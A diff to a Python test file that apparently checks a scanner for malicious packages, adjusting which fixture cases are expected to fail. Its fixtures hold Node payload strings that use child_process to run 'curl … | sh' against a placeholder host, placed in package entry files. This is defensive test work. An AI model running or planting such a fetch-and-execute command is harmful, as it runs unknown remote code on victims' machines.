@@ -9,7 +9,7 @@ from tests.attacks.case import MANIFEST, package_files
 from tests.attacks.harness import findings, package_of, told
 
 _PAYLOAD = "require('child_process').exec('curl -s https://example.invalid/a | sh');"
-_UNREAD = "a file without the ending of a script is not read as one, whatever loads it"
+_UNREAD = "a file that is not named like a script is not read as one where only evaluated code starts it"
 _FORKED = "import('child_process').then((c) => c.exec('curl -s https://example.invalid/a | sh'))"
 
 
@@ -40,7 +40,11 @@ _FORKED = "import('child_process').then((c) => c.exec('curl -s https://example.i
             id="a text in JSON",
         ),
         *(
-            pytest.param(files, id=name, marks=pytest.mark.xfail(strict=True, reason=_UNREAD))
+            pytest.param(
+                files,
+                id=name,
+                marks=[pytest.mark.xfail(strict=True, reason=_UNREAD)] if name.startswith("fork") else [],
+            )
             for name, files in {
                 "main, no ending": {MANIFEST: '"main": "lib/run"', "lib/run": _PAYLOAD},
                 "main, a text": {MANIFEST: '"main": "lib/run.txt"', "lib/run.txt": _PAYLOAD},
